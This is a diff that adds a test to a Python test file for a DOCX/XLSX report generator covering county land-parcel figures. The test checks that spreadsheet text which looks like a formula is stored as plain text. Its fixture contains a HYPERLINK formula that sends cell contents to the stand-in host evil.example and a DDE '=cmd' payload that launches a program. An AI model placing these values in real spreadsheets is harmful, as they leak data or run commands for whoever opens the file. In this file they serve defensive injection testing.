@@ -56,3 +56,17 @@ def test_docx_has_the_figures_in_its_tables() -> None:
     cells = {cell.text for table in document.tables for row in table.rows for cell in row.cells}
     assert {f.start_rate.percent, f.letters.percent, "项目p04", "121", "自然资源局"} <= cells
     assert len(document.tables) == sum(1 for s in sections(f) if s.rows)
+
+
+def test_xlsx_writes_county_text_that_looks_like_a_formula_as_text() -> None:
+    from dataclasses import replace
+
+    f = figures()
+    injected = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    parcels = (replace(f.idle_parcels[0], name=injected, parcel="=cmd|' /C calc'!A0"), *f.idle_parcels[1:])
+    book = load_workbook(io.BytesIO(render_xlsx(replace(f, idle_parcels=parcels))))
+    idle = book[book.sheetnames[4]]
+    cells = list(idle.iter_rows(min_row=3, max_row=3))[0]
+    assert (cells[0].value, cells[0].data_type) == (injected, "s")
+    assert (cells[1].value, cells[1].data_type) == ("=cmd|' /C calc'!A0", "s")
+    assert (cells[4].value, cells[4].data_type) == (121, "n")  # numbers stay numbers
